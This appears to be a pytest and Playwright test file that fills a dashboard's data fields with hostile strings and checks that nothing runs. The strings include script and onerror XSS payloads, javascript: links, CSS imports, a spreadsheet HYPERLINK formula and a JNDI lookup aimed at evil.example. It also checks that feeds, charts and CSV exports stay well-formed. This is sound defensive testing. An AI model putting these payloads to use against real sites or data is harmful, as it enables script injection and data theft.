"""In a real browser, hostile and long text in every field: no script, no other host, nothing over the page, nothing too wide."""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import duckdb
import pytest
from playwright.sync_api import Browser

from dashboard.store.build import build
from dashboard.store.config import ROOT, Settings
from dashboard.store.database import open_current
from dashboard.store.dictionary import read_tables
from dashboard.store.problems import DataError, Problem
from tests.browser.reading import TOO_WIDE, Watched, is_dashboard, moved, settled, views
from tests.browser.serving import serve

MARKUP = (
    '<script>window.__pwned=1</script><img src="http://evil.example/i.png" onerror="window.__pwned=1"> **bold** `code` :red[red] $x^2$ '
    "![i](http://evil.example/m.png) [x](javascript:window.__pwned=1) <style>@import 'http://evil.example/s.css'</style>"
)
# In turn: markup of all sorts, a word without an end, what programs take for a command, letters of other scripts.
POISON = (
    MARKUP,
    "Endless" * 300,
    '=HYPERLINK("http://evil.example")|{{7*7}}${jndi:ldap://evil.example}%s%n',
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 한반도를긴낱말로써서줄을바꾸지않음" * 2,
)
# A long word may be of use to nobody, but a drawing or a page that cannot be read is of less.
PLAIN = (
    "/r/ev-1994-10-talks", "/r/cl-essay-01", "/r/ac-prk", "/r/tr-armistice-1953",
    "/experts/ada-scholar", "/sources/doc-essay", "/eras/truce",
    "/cite/chart/events_timeline", "/cite/record/ev-1994-10-talks", "/changes",
)  # fmt: skip
SQL = quote('select title, summary, \'<img src=x onerror="window.__pwned=1">\' as "<b>[a](b).c" from record')
PAGES = (
    *views(), "/data", f"/data?sql={SQL}", "/data?sql=" + quote("select **bold** ![i](http://evil.example/m.png)"),
    "/source?doc=doc-essay", "/search?q=script",
    "/events?embed=true&chart=events_timeline", "/events?record=ev-1994-10-talks",
    "/events?" + quote(MARKUP[:60]) + "=1&q=" + quote(MARKUP),
)  # fmt: skip
# What lies over the whole page and is none of ours would take every click.
OVER = """() => [...document.querySelectorAll('body *')].filter((found) => {
  const look = getComputedStyle(found), box = found.getBoundingClientRect()
  return look.position === 'fixed' && look.pointerEvents !== 'none' && look.visibility !== 'hidden'
    && box.width > innerWidth * 0.9 && box.height > innerHeight * 0.9 && !found.closest('[data-testid], [class*=st-key-], #root')
}).map((found) => found.outerHTML.slice(0, 200))"""

TOO_WIDE_PLAIN = "() => document.scrollingElement.scrollWidth > innerWidth ? ['too wide'] : []"
CHARTS = (
    "events_timeline",
    "events_kind_by_actor",
    "treaty_lifespans",
    "detentions_spans",
    "positions_over_time",
    "claims_by_verdict",
)


def poisoned(folder: Path, skipped: set[tuple[str, str]]) -> int:
    """Writes poison into every cell of every column but those skipped; how many were written."""
    written = 0
    for number, file in enumerate(sorted(folder.glob("*.csv"))):
        with file.open(encoding="utf-8", newline="") as opened:
            rows = list(csv.DictReader(opened))
        for row in rows:
            for at, name in enumerate(row):
                if row[name] and (file.name, name) not in skipped:
                    row[name] = f"{row[name]} {POISON[(number + at) % len(POISON)]}"
                    written += 1
        if rows:
            out = io.StringIO(newline="")
            writer = csv.DictWriter(out, list(rows[0]), lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
            file.write_text(out.getvalue(), encoding="utf-8", newline="")
    return written


def not_free() -> set[tuple[str, str]]:
    """File and name of each column whose cells have a form, or are named by others."""
    # A check compares it, and names another column.
    skipped = {("cameo.csv", "root_code")}
    with duckdb.connect() as con:
        for file in sorted((ROOT / "sql" / "schema").glob("*.sql")):
            con.execute(file.read_text(encoding="utf-8"))
        for table in read_tables(con):
            named = {name for key in table.keys for name in key} | {name for name, *_ in table.foreign}
            for column in table.columns:
                is_free = column.type == "VARCHAR" and not column.tag and not column.references
                if not is_free or column.name in named or column.name.endswith("_id"):
                    skipped.add((table.file, column.name))
    return skipped


def faults_of(settings: Settings) -> Sequence[Problem]:
    """What keeps the data from being built; nothing where they are built."""
    try:
        build(settings)
    except DataError as error:
        return error.problems
    return []


@pytest.fixture(scope="module")
def hostile(tiny_settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """A build in which every field that takes any text is poisoned: those that do not are found by their faults."""
    folder = tmp_path_factory.mktemp("hostile")
    made = replace(tiny_settings, data=folder / "data", out=folder / "build")
    skipped = not_free()
    for _ in range(12):
        shutil.rmtree(folder / "data", ignore_errors=True)
        shutil.copytree(tiny_settings.data, folder / "data")
        written = poisoned(folder / "data", skipped)
        problems = faults_of(made)
        if not problems:
            assert written > 150
            return made
        found = {(problem.file, name.strip()) for problem in problems for name in problem.column.split(",")}
        assert found - skipped, problems[:3]
        skipped |= found
    raise AssertionError(f"no build: {sorted(skipped)}")


@pytest.fixture(scope="module")
def site(hostile: Settings) -> Iterator[str]:
    with serve(hostile.out, hostile.data) as server:
        yield server.address


@pytest.mark.parametrize("width", [1280, 390])
def test_hostile_text_in_every_field_is_text_and_nothing_else(site: str, browser: Browser, width: int) -> None:
    context = browser.new_context(base_url=site, viewport={"width": width, "height": 900})
    context.set_default_timeout(30_000)
    faults: list[str] = []
    # In the same tab the browser reads its scripts once.
    watched = Watched(context.new_page(), site)
    page = watched.page
    for path in (*PAGES, *PLAIN) if width > 600 else (*PAGES[::4], *PLAIN[::2]):
        if path not in PAGES or "embed" in path:
            page.goto(path)
            page.wait_for_load_state()
        elif is_dashboard(page) and "embed" not in page.url:
            moved(page, path)
        else:
            page.goto(path)
            settled(page)
        found = [*watched.complaints(), *page.evaluate(OVER)]
        watched.errors.clear()
        watched.addresses.clear()
        found += ["a script ran"] if page.evaluate("() => window.__pwned !== undefined") else []
        page.wait_for_timeout(200)
        found += page.evaluate(TOO_WIDE if path in PAGES else TOO_WIDE_PLAIN)
        faults += [f"{path}: {fault}" for fault in found]
    context.close()
    assert faults == []


def test_no_file_or_feed_of_hostile_text_breaks_its_form(site: str, hostile: Settings) -> None:
    import json
    import urllib.request
    from xml.etree import ElementTree as ET

    def content(path: str) -> bytes:
        with urllib.request.urlopen(f"{site}{path}", timeout=60) as answer:  # noqa: S310
            return bytes(answer.read())

    ET.fromstring(content("/feed.atom"))  # noqa: S314
    ET.fromstring(content("/sitemap.xml"))  # noqa: S314
    for line in content("/records.jsonl").splitlines():
        json.loads(line)
    for chart in CHARTS:
        drawing = content(f"/charts/{chart}.svg")
        root = ET.fromstring(drawing)  # noqa: S314
        assert not [
            one.tag for one in root.iter() if one.tag.rpartition("}")[2] in ("script", "image", "foreignObject", "a")
        ]
        rows = list(csv.reader(io.StringIO(content(f"/charts/{chart}.csv").decode(), newline="")))
        assert not [cell for row in rows for cell in row if cell[:1] in "=+@" and cell]
    assert open_current(hostile).rows("pages", "health")
